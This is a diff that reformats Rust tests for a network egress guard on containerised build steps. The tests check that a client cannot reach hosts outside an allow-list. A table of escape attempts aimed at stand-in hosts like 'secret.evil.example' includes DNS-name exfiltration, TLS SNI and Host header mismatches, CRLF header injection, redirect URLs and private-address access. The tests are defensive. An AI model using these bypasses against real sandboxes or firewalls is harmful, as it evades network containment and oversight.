@@ -107,13 +107,11 @@ impl Setting {
     fn step(&self, hosts: &[&str], client: &str) -> Container {
         let hosts = Hosts::parse(hosts).expect("hosts");
         let mut container = Container::image("python:3.11-slim", None).with_network(Network::Hosts(hosts));
-        for (path, text) in [("/certificate.pem", self.internet.certificate.as_str()), ("/client.py", CLIENT)] {
-            container = container.edit(Edit::new_file(
-                path,
-                text.as_bytes(),
-                Some(FILE_MODE),
-                None,
-            ));
+        for (path, text) in [
+            ("/certificate.pem", self.internet.certificate.as_str()),
+            ("/client.py", CLIENT),
+        ] {
+            container = container.edit(Edit::new_file(path, text.as_bytes(), Some(FILE_MODE), None));
         }
         let mut named = String::new();
         for (name, address) in [
@@ -131,7 +129,11 @@ impl Setting {
 
     async fn says(&self, hosts: &[&str], client: &str) -> String {
         let step = self.step(hosts, client);
-        self.engine.run().stdout(&step).await.expect("the client ends well")
+        self.engine
+            .run()
+            .stdout(&step)
+            .await
+            .expect("the client ends well")
     }
 }
 
@@ -191,7 +193,12 @@ fn came_to(seen: &Seen, place: SocketAddr) -> bool {
 fn asked_evil(seen: &Seen, internet: &Internet) -> bool {
     let evil = internet.address(11);
     let asked_by_name = seen.requests.iter().any(|(_, host, _)| host.contains("evil"));
-    asked_by_name || seen.connections.iter().chain(&seen.datagrams).any(|place| place.ip() == evil)
+    asked_by_name
+        || seen
+            .connections
+            .iter()
+            .chain(&seen.datagrams)
+            .any(|place| place.ip() == evil)
 }
 
 fn looked_up_evil(seen: &Seen, _: &Internet) -> bool {
@@ -204,35 +211,93 @@ fn came_to_private(seen: &Seen, internet: &Internet) -> bool {
 
 const TRIES: [Try; 22] = [
     ("lookup('secret.evil.example')", "egress-names", looked_up_evil),
-    ("send('10.88.0.1', 53, question('secret.evil.example'))", "egress-names", looked_up_evil),
-    ("send(EVIL, 53, question('secret.evil.example'))", "egress-names", looked_up_evil),
+    (
+        "send('10.88.0.1', 53, question('secret.evil.example'))",
+        "egress-names",
+        looked_up_evil,
+    ),
+    (
+        "send(EVIL, 53, question('secret.evil.example'))",
+        "egress-names",
+        looked_up_evil,
+    ),
     (
         "talk(EVIL, 53, '\\0\\x25' + question('secret.evil.example').decode())",
         "egress-names",
         looked_up_evil,
     ),
-    ("talk(EVIL, 80, request('allowed.example'))", "egress-connections", asked_evil),
-    ("tls(EVIL, 443, 'allowed.example', request('allowed.example'))", "egress-connections", asked_evil),
+    (
+        "talk(EVIL, 80, request('allowed.example'))",
+        "egress-connections",
+        asked_evil,
+    ),
+    (
+        "tls(EVIL, 443, 'allowed.example', request('allowed.example'))",
+        "egress-connections",
+        asked_evil,
+    ),
     ("talk(EVIL, 2222, 'x')", "egress-connections", asked_evil),
     ("get('http://' + EVIL + '/')", "egress-connections", asked_evil),
-    ("get('http://allowed.example/to/http://' + EVIL + '/')", "egress-connections", asked_evil),
-    ("(lookup('private.below.example'), talk(PRIVATE, 443, 'x'))", "egress-connections", came_to_private),
-    ("tls('private.below.example', 443, 'private.below.example', request('x'))", "egress-addresses", came_to_private),
-    ("tls('allowed.example', 443, 'evil.example', request('evil.example'))", "egress-servers", asked_evil),
-    ("tls('allowed.example', 443, None, request('evil.example'))", "egress-servers", asked_evil),
-    ("talk('allowed.example', 443, request('evil.example'))", "egress-none", asked_evil),
-    ("talk('allowed.example', 80, request('evil.example'))", "egress-servers", asked_evil),
-    ("talk('allowed.example', 8080, request('evil.example'))", "egress-servers", asked_evil),
-    ("talk('allowed.example', 80, request('x', 'http://evil.example/'))", "egress-none", asked_evil),
+    (
+        "get('http://allowed.example/to/http://' + EVIL + '/')",
+        "egress-connections",
+        asked_evil,
+    ),
+    (
+        "(lookup('private.below.example'), talk(PRIVATE, 443, 'x'))",
+        "egress-connections",
+        came_to_private,
+    ),
+    (
+        "tls('private.below.example', 443, 'private.below.example', request('x'))",
+        "egress-addresses",
+        came_to_private,
+    ),
+    (
+        "tls('allowed.example', 443, 'evil.example', request('evil.example'))",
+        "egress-servers",
+        asked_evil,
+    ),
+    (
+        "tls('allowed.example', 443, None, request('evil.example'))",
+        "egress-servers",
+        asked_evil,
+    ),
+    (
+        "talk('allowed.example', 443, request('evil.example'))",
+        "egress-none",
+        asked_evil,
+    ),
+    (
+        "talk('allowed.example', 80, request('evil.example'))",
+        "egress-servers",
+        asked_evil,
+    ),
+    (
+        "talk('allowed.example', 8080, request('evil.example'))",
+        "egress-servers",
+        asked_evil,
+    ),
+    (
+        "talk('allowed.example', 80, request('x', 'http://evil.example/'))",
+        "egress-none",
+        asked_evil,
+    ),
     (
         "talk('allowed.example', 80, request('allowed.example') + request('evil.example'))",
         "egress-servers",
         asked_evil,
     ),
-    ("talk('allowed.example', 80, request('allowed.example\\r\\nHost: evil.example'))", "egress-servers", asked_evil),
+    (
+        "talk('allowed.example', 80, request('allowed.example\\r\\nHost: evil.example'))",
+        "egress-servers",
+        asked_evil,
+    ),
     ("send(EVIL, 443, b'quic')", "egress", asked_evil),
     ("send(EVIL, 53, b'not a question of names')", "egress", asked_evil),
-    ("send(ALLOWED, 443, b'quic')", "egress", |seen, _| !seen.datagrams.is_empty()),
+    ("send(ALLOWED, 443, b'quic')", "egress", |seen, _| {
+        !seen.datagrams.is_empty()
+    }),
 ];
 
 #[tokio::test(flavor = "multi_thread")]
@@ -243,7 +308,10 @@ async fn nothing_comes_to_a_server_that_is_not_in_the_list() {
     let said = run.stdout(&setting.step(&LIST, &tries.join("\n"))).await.unwrap();
     let seen = setting.internet.seen();
     for (what, _, came_through) in TRIES {
-        assert!(!came_through(&seen, &setting.internet), "{what}\n{said}\n{seen:#?}");
+        assert!(
+            !came_through(&seen, &setting.internet),
+            "{what}\n{said}\n{seen:#?}"
+        );
     }
     // And the user was told.
     let notices = run.notices().await.join("\n");
@@ -254,15 +322,27 @@ async fn nothing_comes_to_a_server_that_is_not_in_the_list() {
         format!("evil.example:443 at {}", setting.internet.address(10)),
         "allowed.example:443 by TLS that names no host".to_owned(),
         "allowed.example:443 without TLS".to_owned(),
-        format!("private.below.example, which is at {}, a private address", setting.internet.private(10)),
+        format!(
+            "private.below.example, which is at {}, a private address",
+            setting.internet.private(10)
+        ),
     ] {
-        assert!(notices.contains(&format!("the step may not reach {what}")), "{what}\n{notices}");
+        assert!(
+            notices.contains(&format!("the step may not reach {what}")),
+            "{what}\n{notices}"
+        );
     }
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn each_guard_is_what_stops_its_tries() {
-    for guard in ["egress-names", "egress-connections", "egress-addresses", "egress-servers", "egress"] {
+    for guard in [
+        "egress-names",
+        "egress-connections",
+        "egress-addresses",
+        "egress-servers",
+        "egress",
+    ] {
         let setting = Setting::without(guard);
         for (what, _, came_through) in TRIES.iter().filter(|(_, of, _)| *of == guard) {
             let before = setting.internet.seen();
@@ -274,7 +354,10 @@ async fn each_guard_is_what_stops_its_tries() {
                 connections: after.connections[before.connections.len()..].to_vec(),
                 datagrams: after.datagrams[before.datagrams.len()..].to_vec(),
             };
-            assert!(came_through(&new, &setting.internet), "{what} without {guard}: {said}\n{new:#?}");
+            assert!(
+                came_through(&new, &setting.internet),
+                "{what} without {guard}: {said}\n{new:#?}"
+            );
         }
     }
 }
@@ -299,7 +382,11 @@ async fn no_name_leads_to_the_host_to_its_loopback_to_metadata_or_to_other_steps
     );
     let said = setting.says(&hosts, &client).await;
     assert_eq!(said.lines().count(), 8);
-    assert!(said.lines().all(|line| line.ends_with("Error") || line == "gaierror" || line.is_empty()), "{said}");
+    assert!(
+        said.lines()
+            .all(|line| line.ends_with("Error") || line == "gaierror" || line.is_empty()),
+        "{said}"
+    );
     assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
 }
 
@@ -311,19 +398,29 @@ async fn a_name_leads_for_good_where_it_led_first() {
     let client = "print(lookup('turns.example'), lookup('turns.example'), get('http://turns.example/'))\n\
                   print(talk(EVIL, 80, request('turns.example')))";
     let said = setting.says(&["turns.example"], client).await;
-    assert!(said.starts_with(&format!("{first} {first} this is turns.example\n")), "{said}");
+    assert!(
+        said.starts_with(&format!("{first} {first} this is turns.example\n")),
+        "{said}"
+    );
     assert!(!asked_evil(&setting.internet.seen(), &setting.internet), "{said}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
 async fn addresses_that_are_named_are_reached_and_so_are_names_that_lead_to_them() {
     let setting = Setting::new(How::default());
-    let (evil, private) = (setting.internet.address(11).to_string(), setting.internet.private(10).to_string());
+    let (evil, private) = (
+        setting.internet.address(11).to_string(),
+        setting.internet.private(10).to_string(),
+    );
     let hosts = ["private.below.example", &private, &format!("{evil}:80")];
     let client = "print(get('http://private.below.example/'))\nprint(get('http://' + EVIL + '/'))\nprint(get('https://' + EVIL + '/'))";
     let said = setting.says(&hosts, client).await;
     let lines: Vec<_> = said.lines().collect();
-    assert_eq!(lines[..2], ["this is private.below.example", &format!("this is {evil}")], "{said}");
+    assert_eq!(
+        lines[..2],
+        ["this is private.below.example", &format!("this is {evil}")],
+        "{said}"
+    );
     assert!(lines[2].ends_with("Error"), "{said}");
 }
 
@@ -331,7 +428,8 @@ async fn addresses_that_are_named_are_reached_and_so_are_names_that_lead_to_them
 async fn protocols_in_which_the_server_speaks_first_work() {
     let setting = Setting::new(How::default());
     let (port, greeting) = GREETING;
-    let client = format!("with connect('allowed.example', {port}) as it:\n    print(it.recv(100).decode().strip())");
+    let client =
+        format!("with connect('allowed.example', {port}) as it:\n    print(it.recv(100).decode().strip())");
     assert_eq!(setting.says(&LIST, &client).await.trim(), greeting.trim());
 }
 
@@ -346,7 +444,9 @@ async fn services_are_held_to_their_list_and_are_no_way_around_that_of_others() 
     );
     let serving = busybox()
         .with_network(hosts.clone())
-        .configure(Configure::DefaultArgs(["sh", "-c", &serve].map(str::to_owned).to_vec()))
+        .configure(Configure::DefaultArgs(
+            ["sh", "-c", &serve].map(str::to_owned).to_vec(),
+        ))
         .configure(Configure::Expose("80/tcp".to_owned()))
         .as_service(ServiceOptions::default());
     let bound = busybox().with_network(hosts).with_service("it", &serving);
@@ -399,7 +499,11 @@ async fn what_is_fetched_comes_from_servers_of_the_list_wherever_they_lead() {
         assert!(grant.contains("in its list for http"), "{grant}");
     }
     let seen = setting.internet.seen();
-    assert!(seen.connections.iter().all(|place| *place == (setting.internet.address(10), 80).into()));
+    assert!(
+        seen.connections
+            .iter()
+            .all(|place| *place == (setting.internet.address(10), 80).into())
+    );
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -409,9 +513,16 @@ async fn a_name_that_leads_to_this_machine_is_not_fetched_from_unless_the_addres
     let url = format!("http://localhost:{}/", server.port());
     let run = engine.run();
     let refused = run.contents(&fetched(&url, &["localhost"])).await.unwrap_err();
-    assert!(refused.to_string().contains("has to be in the list of hosts, too"), "{refused}");
+    assert!(
+        refused
+            .to_string()
+            .contains("has to be in the list of hosts, too"),
+        "{refused}"
+    );
     assert_eq!(server.asked().len(), 0);
-    let named = run.contents(&fetched(&url, &["localhost", "127.0.0.1", "[::1]"])).await;
+    let named = run
+        .contents(&fetched(&url, &["localhost", "127.0.0.1", "[::1]"]))
+        .await;
     assert_eq!(named.unwrap(), "inside");
 }
 
@@ -431,9 +542,14 @@ async fn git_asks_servers_of_the_list_alone_and_follows_nobody_out_of_it() {
     let run = engine.run();
     let within = format!("127.0.0.1:{}", server.port());
     let entries = || Question::Entries("/".to_owned());
-    let led = run.ask(head(&server.url("/x.git"), &[&within]).node(), entries()).await;
+    let led = run
+        .ask(head(&server.url("/x.git"), &[&within]).node(), entries())
+        .await;
     assert!(led.is_err(), "{led:?}");
-    let grant = denied(run.ask(head(&other.url("/x.git"), &[&within]).node(), entries()).await);
+    let grant = denied(
+        run.ask(head(&other.url("/x.git"), &[&within]).node(), entries())
+            .await,
+    );
     assert!(grant.contains("in its list for git"), "{grant}");
     assert!(!server.asked().is_empty());
     assert_eq!(other.asked().len(), 0);
